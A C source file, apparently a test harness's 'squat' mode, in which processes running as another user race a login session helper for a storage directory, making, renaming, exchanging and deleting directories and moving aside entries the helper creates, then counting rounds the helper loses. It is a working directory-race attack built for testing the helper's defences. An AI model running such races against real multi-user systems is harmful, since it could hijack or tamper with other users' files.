/* Another user who fights for the place of the storage directory while logins take it: without a pause, its directory is made there,
 * renamed, exchanged with others, and whatever comes out under a name of the login's is exchanged or moved as soon as it can be.
 *
 *   attacker squat --uid N --place PATH [--rounds N] [--exchange refused] -- HELPER ARGUMENT…
 *
 * With `--exchange refused` the session helper's renameat2(2) with RENAME_EXCHANGE answers EACCES, as it does under SELinux.
 * After every run of the session helper the place is the user's own directory, or empty, or the helper has said that it is not: else the
 * round is lost. Prints "rounds=N taken=N refused=N empty=N lost=N moves=N stolen=N": `moves` are the squatter's, `stolen` those of them
 * that moved what had come out. Exit status 0 if none is lost. */
#include "attacker.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static struct { volatile long moves, stolen; volatile int is_over; } *shared;

static int exchange(int directory, const char *one, const char *other) {
  return (int)syscall(SYS_renameat2, directory, one, directory, other, 2u);
}

/* Makes, renames and exchanges directories at the place. */
static void fight(int directory, const char *leaf) {
  for (unsigned i = 0; !shared->is_over; i++) {
    mkdirat(directory, leaf, 0777);
    mkdirat(directory, "mallory.1", 0777);
    if (exchange(directory, leaf, "mallory.1") == 0) shared->moves++;
    if (i % 3 == 0 && renameat(directory, leaf, directory, "mallory.2") == 0) shared->moves++;
    if (i % 7 == 0 && unlinkat(directory, leaf, AT_REMOVEDIR) == 0) shared->moves++;
  }
}

/* Moves whatever has come out under a name of the login's, the moment that it may. */
static void steal(int directory, const char *leaf) {
  char prefix[256];
  snprintf(prefix, sizeof prefix, ".%s.", leaf);
  while (!shared->is_over) {
    int again = openat(directory, ".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    DIR *list = again < 0 ? NULL : fdopendir(again);
    struct dirent *entry;
    while (list != NULL && (entry = readdir(list)) != NULL) {
      if (strncmp(entry->d_name, prefix, strlen(prefix)) != 0) continue;
      mkdirat(directory, "mallory.3", 0777);
      for (int spin = 0; spin < 200; spin++) {
        if (exchange(directory, entry->d_name, "mallory.3") == 0 || renameat(directory, entry->d_name, directory, "mallory.4") == 0) {
          shared->stolen++;
          break;
        }
        if (errno == ENOENT) break;
      }
    }
    if (list != NULL) closedir(list);
  }
}

static void clear(int directory, const char *leaf) {
  int again = openat(directory, ".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  DIR *list = again < 0 ? NULL : fdopendir(again);
  struct dirent *entry;
  while (list != NULL && (entry = readdir(list)) != NULL) {
    struct stat status;
    const char *name = entry->d_name;
    if (name[0] == '.' && strncmp(name + 1, leaf, strlen(leaf)) != 0) continue;
    if (name[0] != '.' && strcmp(name, leaf) != 0 && strncmp(name, "mallory.", 8) != 0) continue;
    if (fstatat(directory, name, &status, AT_SYMLINK_NOFOLLOW) != 0 || !S_ISDIR(status.st_mode)) continue;
    for (int i = 0; i < 2; i++) {
      char path[600];
      snprintf(path, sizeof path, "%s/%s", name, i == 0 ? "containers" : "docker");
      unlinkat(directory, path, AT_REMOVEDIR);
    }
    unlinkat(directory, name, AT_REMOVEDIR);
  }
  if (list != NULL) closedir(list);
}

static bool refuse_exchange(void) {
  struct sock_filter filter[] = {
      BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
      BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_renameat2, 0, 3),
      BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, args[4])), /* its lower half: the flags */
      BPF_JUMP(BPF_JMP | BPF_JSET | BPF_K, 2u /* RENAME_EXCHANGE */, 0, 1),
      BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | EACCES),
      BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
  };
  struct sock_fprog program = {sizeof filter / sizeof *filter, filter};
  return prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &program, 0, 0) == 0;
}

/* Runs the session helper and keeps what it says. */
static void run(char **arguments, bool exchanges, char *text, size_t size) {
  int ends[2];
  if (pipe(ends) != 0) exit(2);
  pid_t child = fork();
  if (child == 0) {
    dup2(ends[1], 1);
    close(ends[0]), close(ends[1]);
    if (!exchanges && !refuse_exchange()) _exit(126);
    execv(arguments[0], arguments);
    _exit(127);
  }
  close(ends[1]);
  size_t length = 0;
  ssize_t got;
  while (length < size - 1 && (got = read(ends[0], text + length, size - 1 - length)) > 0) length += (size_t)got;
  text[length] = 0;
  close(ends[0]);
  waitpid(child, NULL, 0);
}

int squat(const struct attack *attack, int argc, char **argv) {
  long rounds = 1000, taken = 0, refused = 0, empty = 0, lost = 0;
  bool exchanges = true;
  int i = 0;
  for (; i + 1 < argc && strcmp(argv[i], "--") != 0; i += 2) {
    if (strcmp(argv[i], "--rounds") == 0) rounds = atol(argv[i + 1]);
    if (strcmp(argv[i], "--exchange") == 0) exchanges = strcmp(argv[i + 1], "refused") != 0;
  }
  if (i + 1 >= argc || strcmp(argv[i], "--") != 0) return fprintf(stderr, "attacker: squat: which helper?\n"), 2;
  const char *leaf = strrchr(attack->place, '/') + 1;
  char parent[256];
  snprintf(parent, sizeof parent, "%.*s", (int)(leaf - attack->place - 1), attack->place);
  int directory = open(parent, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  shared = mmap(NULL, sizeof *shared, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
  if (directory < 0 || shared == MAP_FAILED) return perror(parent), 2;
  pid_t children[3];
  for (int n = 0; n < 3; n++) {
    children[n] = fork();
    if (children[n] != 0) continue;
    become(attack->uid);
    umask(0);
    if (n == 0) fight(directory, leaf);
    else steal(directory, leaf);
    _exit(0);
  }
  for (long round = 0; round < rounds; round++) {
    char text[16384];
    struct stat status;
    clear(directory, leaf);
    run(argv + i + 1, exchanges, text, sizeof text);
    bool is_there = fstatat(directory, leaf, &status, AT_SYMLINK_NOFOLLOW) == 0;
    if (is_there && S_ISDIR(status.st_mode) && status.st_uid == VICTIM_UID) taken++;
    else if (strstr(text, "is refused, nothing is done") != NULL) refused++;
    else if (!is_there && strstr(text, "<3>") != NULL) empty++;
    else if (lost++ < 5) printf("lost: owner %d: %s\n", is_there ? (int)status.st_uid : -1, text);
  }
  shared->is_over = 1;
  for (int n = 0; n < 3; n++) waitpid(children[n], NULL, 0);
  printf("rounds=%ld taken=%ld refused=%ld empty=%ld lost=%ld moves=%ld stolen=%ld\n", rounds, taken, refused, empty, lost, shared->moves, shared->stolen);
  return lost != 0;
}
